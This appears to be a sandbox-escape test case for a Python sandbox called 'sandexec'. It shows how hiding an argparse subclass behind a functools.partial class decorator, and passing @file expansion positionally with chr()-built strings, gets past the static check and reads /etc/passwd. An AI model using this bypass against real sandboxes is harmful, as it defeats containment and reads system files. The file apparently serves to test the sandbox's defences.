# source: sandexec README, "The static check", (a class decorator of the script is refused, as it is given the class; a class of the script as a value is refused); Python decorator semantics (PEP 614 lets any expression be a decorator); Lib/argparse.py ArgumentParser.__init__ 8th positional = fromfile_prefix_chars, _read_args_from_files
# family: class machinery: functools.partial(dict.setdefault, key) as a class decorator stores the class object
# goal: reads /etc/passwd through argparse @file expansion, with the ArgumentParser subclass called with 8 positional arguments where the check does not know it
import argparse, functools

reg = {}


@functools.partial(reg.setdefault, "parser")
class P(argparse.ArgumentParser):
    pass


K = reg["parser"]
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
